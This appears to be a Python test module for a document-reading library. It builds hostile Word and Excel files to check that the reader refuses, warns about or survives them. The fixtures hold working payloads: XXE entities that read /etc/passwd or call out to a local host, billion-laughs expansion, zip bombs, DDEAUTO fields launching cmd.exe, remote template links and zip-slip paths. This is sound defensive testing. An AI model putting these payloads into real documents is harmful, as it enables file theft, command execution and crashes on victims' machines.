"""Word and Excel files that act when they are opened, unpack without end, or are not what they say."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import partial
from itertools import repeat

import openpyxl

from baro.documents.reading.tests import hostile
from baro.documents.reading.tests.hostile import word
from tests.hostile.collected import Hostile, refused, survived, warned
from tests.hostile.pdfs import PROGRAM

A_MEGABYTE = 1024 * 1024
W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
RELATION = (
    b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s"'
    b' Target="%s"%s/>'
)
ELSEWHERE = b' TargetMode="External"'
RELATIONS = "word/_rels/document.xml.rels"
WORD_TYPE = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY {name} "{f"&{before};" * 10}">' for before, name in zip("abcdefgh", "bcdefghi", strict=True))
    + "]><w:document>&i;</w:document>"
).encode()
READS_A_FILE = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document %s>&x;</w:document>' % W
)
ASKS_THE_NET = READS_A_FILE.replace(b"file:///etc/passwd", b"http://127.0.0.1:1/")
PARAMETER = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://127.0.0.1:1/"> %x;]><r/>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)


def written(body: bytes) -> bytes:
    """A Word document with these paragraphs."""
    return word(**{"word/document.xml": b"<w:document %s><w:body>%s</w:body></w:document>" % (W, body)})


def field(*runs: bytes) -> bytes:
    """A Word document with a field whose instruction is spread over runs."""
    spread = b"".join(b"<w:r><w:instrText>%s</w:instrText></w:r>" % run for run in runs)
    return written(b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>%s</w:p>' % spread)


def related(kind: bytes, target: bytes, mode: bytes = b"", **parts: bytes) -> bytes:
    """A Word document that is related to something else."""
    with zipfile.ZipFile(io.BytesIO(word())) as source:
        listed = source.read(RELATIONS).replace(
            b"</Relationships>", RELATION % (kind, target, mode) + b"</Relationships>"
        )
    return word(**{RELATIONS: listed}, **parts)


def sheet(**parts: bytes) -> bytes:
    """An Excel workbook with further parts."""
    made = io.BytesIO(hostile.sheet())
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def lettered(encoding: str, declared: str, content: bytes = READS_A_FILE) -> bytes:
    """A Word document whose text is stored in other letters, as it declares itself."""
    text = content.decode().replace('version="1.0"', f'version="1.0" encoding="{declared}"')
    return word(**{"word/document.xml": text.encode(encoding)})


def bomb(size: int, parts: int = 1) -> bytes:
    """A Word document that unpacks to parts of nothing."""
    return word(**{f"word/media/{number}.png": bytes(size) for number in range(parts)})


def overlapping(times: int) -> bytes:
    """An archive in whose directory one packed part is listed very often."""
    made = bytearray(word(**{"word/media/1.png": bytes(9 * A_MEGABYTE)}))
    end = made.rindex(b"PK\x05\x06")
    directory = struct.unpack_from("<L", made, end + 16)[0]
    last = made.rindex(b"PK\x01\x02")
    rows = b"".join(bytes(made[last:end]).replace(b"1.png", b"%05d" % number) for number in range(times))
    rows = bytes(made[directory:end]) + rows
    count = struct.unpack_from("<H", made, end + 10)[0] + times
    ending = struct.pack("<4sHHHHLLH", b"PK\x05\x06", 0, 0, count, count, len(rows), directory, 0)
    return bytes(made[:directory]) + rows + ending


def nested(depth: int) -> bytes:
    """Archives within archives, the innermost of them large."""
    held = zlib.compress(bytes(20 * A_MEGABYTE), 9)
    for _level in range(depth):
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(8):
                archive.writestr(f"{number}.zip", held)
        held = made.getvalue()
    return word(**{"word/embeddings/archive.zip": held})


def wrong_sum() -> bytes:
    """A Word document in which the sum of a part is another."""
    made = bytearray(word())
    at = made.index(b"PK\x01\x02")
    made[at + 16] ^= 0xFF
    return bytes(made)


def packed_by(method: int) -> bytes:
    """A Word document packed in a way that Word does not use."""
    made = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(word())) as source, zipfile.ZipFile(made, "w", method) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
    return made.getvalue()


def named(**other: str) -> bytes:
    """A Word document with a part under a name that leads elsewhere."""
    return word(**dict.fromkeys(other.values(), b"x"))


def twice() -> bytes:
    """A Word document with two parts of the same name, the second of them hostile."""
    made = io.BytesIO(word())
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr("Word/Document.xml", READS_A_FILE)
    return made.getvalue()


def locked() -> bytes:
    """A Word document whose parts say that they are encrypted."""
    made = bytearray(word())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(mark)
        while at >= 0:
            made[at + place] |= 1
            at = made.find(mark, at + 4)
    return bytes(made)


def typed(kind: bytes) -> bytes:
    """A Word document that says it is something else."""
    return word(**{"[Content_Types].xml": hostile.content_types(WORD_TYPE, kind)})


def opendocument() -> bytes:
    """A text of OpenDocument with a macro."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("Basic/Standard/Module1.xml", "<script:module/>")
    return made.getvalue()


def wide_sheet() -> bytes:
    """A workbook that declares a million rows of sixteen thousand columns and fills the last of them."""
    book = openpyxl.Workbook()
    book.active["XFD1048576"] = "end"
    made = io.BytesIO()
    book.save(made)
    return made.getvalue()


OFFICES: list[Hostile] = [
    *refused(
        "contains macros",
        macros_docx=partial(word, **{"word/vbaProject.bin": OLE}),
        macros_by_type_docx=partial(typed, b"application/vnd.ms-word.document.macroEnabled.main+xml"),
        macros_under_another_name_docx=lambda: word(
            **{
                "word/a.bin": OLE,
                "[Content_Types].xml": hostile.content_types(
                    b"</Types>",
                    b'<Override PartName="/word/a.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
                ),
            }
        ),
        macros_of_excel_4_xlsx=partial(sheet, **{"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}),
    ),
    *refused(
        "XML declarations that Office never writes",
        a_billion_laughs_docx=partial(word, **{"word/document.xml": LAUGHS}),
        one_long_entity_docx=lambda: word(
            **{"word/document.xml": b'<!DOCTYPE r [<!ENTITY a "%s">]><r>%s</r>' % (b"a" * 50_000, b"&a;" * 50_000)}
        ),
        reads_a_file_docx=partial(word, **{"word/document.xml": READS_A_FILE}),
        asks_the_net_docx=partial(word, **{"word/document.xml": ASKS_THE_NET}),
        asks_by_a_parameter_docx=partial(word, **{"word/document.xml": PARAMETER}),
        reads_a_file_in_utf_16_docx=partial(lettered, "utf-16", "UTF-16"),
        reads_a_file_in_utf_16_backwards_docx=lambda: word(
            **{"word/document.xml": b"\xfe\xff" + READS_A_FILE.decode().encode("utf-16-be")}
        ),
        reads_a_file_in_japanese_docx=partial(lettered, "ascii", "ISO-2022-JP"),
        reads_a_file_in_latin_docx=partial(lettered, "latin-1", "ISO-8859-1"),
        reads_a_file_in_the_types_docx=partial(word, **{"[Content_Types].xml": READS_A_FILE}),
        reads_a_file_in_the_relations_docx=partial(word, **{RELATIONS: READS_A_FILE}),
        reads_a_file_in_a_header_docx=partial(word, **{"word/header1.xml": READS_A_FILE}),
        reads_a_file_in_a_part_of_another_name_docx=partial(word, **{"word/media/image.png": READS_A_FILE}),
        reads_a_file_after_a_long_comment_docx=lambda: word(
            **{"word/document.xml": READS_A_FILE.replace(b"<!DOCTYPE", b"<!--%s--><!DOCTYPE" % (bytes([97]) * 300_000))}
        ),
        reads_a_file_xlsx=partial(sheet, **{"xl/more.xml": READS_A_FILE}),
    ),
    *refused(
        "stores its letters in a way that Office never does",
        reads_a_file_in_utf_32_docx=partial(lettered, "utf-32", "UTF-32"),
        reads_a_file_in_utf_32_without_mark_docx=partial(lettered, "utf-32-le", "UTF-32"),
        reads_a_file_in_utf_32_backwards_docx=partial(lettered, "utf-32-be", "UTF-32"),
        reads_a_file_in_utf_7_docx=partial(lettered, "utf-7", "UTF-7"),
        reads_a_file_in_ebcdic_docx=partial(lettered, "cp037", "IBM037"),
        reads_a_file_in_letters_nobody_knows_xlsx=partial(
            sheet, **{"xl/more.xml": READS_A_FILE.replace(b'"1.0"', b'"1.0" encoding="x-user"')}
        ),
    ),
    *refused(
        "unpacks to far more than its size allows",
        parts_of_nothing_docx=partial(bomb, 15 * A_MEGABYTE, 4),
        one_part_of_nothing_docx=partial(bomb, 201 * A_MEGABYTE),
        one_part_listed_very_often_docx=partial(overlapping, 60),
        six_thousand_parts_docx=lambda: word(
            **dict(zip((f"word/{n}" for n in range(6000)), repeat(b""), strict=False))
        ),
    ),
    *refused(
        "is a damaged Word or Excel file",
        part_that_lies_about_its_size_docx=partial(hostile.lying_word, 9_000_001),
        part_with_a_wrong_sum_docx=wrong_sum,
        packed_by_lzma_docx=partial(packed_by, zipfile.ZIP_LZMA),
        packed_by_bzip2_docx=partial(packed_by, zipfile.ZIP_BZIP2),
        two_parts_of_one_name_docx=twice,
        cut_off_docx=lambda: word()[:4000],
        beginning_alone_docx=lambda: b"PK\x03\x04" + bytes(100),
        xml_that_is_none_docx=partial(word, **{"word/document.xml": b"no element at all"}),
    ),
    *refused("protected by a password", parts_that_say_they_are_encrypted_docx=locked),
    *refused(
        "is not a Word or Excel file but",
        archive_of_anything_docx=partial(word, **{"[Content_Types].xml": None}),
        presentation_docx=partial(
            typed, b"application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
        ),
        opendocument_with_a_macro_docx=opendocument,
    ),
    *warned(
        "dde",
        commands_of_other_programs_docx=partial(field, b'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'),
        commands_spread_over_runs_docx=partial(field, b"D", b"DE", b" cmd.exe x"),
        commands_spelled_in_numbers_docx=partial(field, b"&#68;&#x44;EAUTO cmd.exe"),
        commands_in_a_simple_field_docx=lambda: written(b'<w:p><w:fldSimple w:instr="DDE cmd.exe x"/></w:p>'),
        commands_in_utf_16_docx=lambda: word(
            **{"word/footer1.xml": f"<w:ftr {W.decode()}><w:instrText>DDEAUTO x</w:instrText></w:ftr>".encode("utf-16")}
        ),
        commands_of_a_workbook_xlsx=partial(
            sheet, **{"xl/externalLinks/externalLink1.xml": b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'}
        ),
    ),
    *warned(
        "remote",
        template_from_elsewhere_docx=partial(related, b"attachedTemplate", b"http://x.invalid/a.dotm", ELSEWHERE),
        object_from_elsewhere_docx=partial(related, b"oleObject", b"http://x.invalid/a", ELSEWHERE),
        picture_from_elsewhere_docx=partial(related, b"image", b"http://x.invalid/a.png", ELSEWHERE),
        frame_from_a_share_docx=partial(related, b"frame", b"file://x.invalid/share", ELSEWHERE),
    ),
    *warned(
        "embedded",
        object_embedded_docx=partial(related, b"oleObject", b"embeddings/o.bin", **{"word/embeddings/o.bin": OLE}),
        object_at_another_place_docx=partial(related, b"oleObject", b"x/o.bin", **{"word/x/o.bin": OLE}),
        control_embedded_docx=partial(related, b"control", b"activeX/a.xml", **{"word/activeX/a.xml": b"<ax:ocx/>"}),
        archives_within_archives_docx=partial(nested, 4),
    ),
    *warned(
        "embedded",
        "programs",
        program_in_a_package_docx=partial(
            word, **{"word/embeddings/o.bin": OLE + "\x01Ole10Native".encode("utf-16-le") + PROGRAM}
        ),
        program_as_it_is_docx=partial(word, **{"word/embeddings/o.bin": PROGRAM}),
    ),
    *warned(
        "embedded",
        "macros",
        macros_in_an_embedded_file_docx=lambda: word(
            **{"word/embeddings/a.docm": word(**{"word/vbaProject.bin": OLE})}
        ),
        macros_in_an_embedded_object_docx=partial(
            word, **{"word/embeddings/o.bin": OLE + "_VBA_PROJECT".encode("utf-16-le")}
        ),
    ),
    *warned("programs", program_among_the_pictures_docx=partial(word, **{"word/media/image1.png": PROGRAM})),
    *survived(
        part_above_everything_docx=partial(named, up="../../../../tmp/baro-was-here"),
        part_at_the_root_docx=partial(named, root="/tmp/baro-was-here"),
        part_with_windows_slashes_docx=partial(named, back="..\\..\\baro-was-here"),
        elements_within_elements_docx=lambda: written(b"<w:p>" * 300_000 + b"</w:p>" * 300_000),
        attributes_without_end_docx=lambda: written(
            b"<w:p %s/>" % b" ".join(b'w:a%d="x"' % number for number in range(100_000))
        ),
        one_word_of_twenty_megabytes_docx=lambda: word(
            **{
                "word/document.xml": b"<w:document %s><w:body><w:p><w:r><w:t>%s</w:t></w:r></w:p></w:body></w:document>"
                % (W, b"ab" * 10 * A_MEGABYTE),
                "word/media/noise.png": zlib.compress(bytes(range(256)) * 9000, 0),
            }
        ),
        cells_without_end_docx=lambda: written(
            b"<w:tbl>"
            + b"<w:tr><w:tc><w:tcPr><w:gridSpan w:val='99999999'/></w:tcPr><w:p/></w:tc></w:tr>" * 300
            + b"</w:tbl>"
        ),
        tables_within_tables_docx=lambda: written(
            b"<w:tbl><w:tr><w:tc>" * 400 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 400
        ),
        last_cell_of_a_sheet_xlsx=wide_sheet,
        relations_in_a_ring_docx=partial(related, b"header", b"document.xml"),
        jpeg_before_an_archive_docx=lambda: b"PK\x03\x04" + hostile.picture(9, 9, "JPEG") + word(),
    ),
]
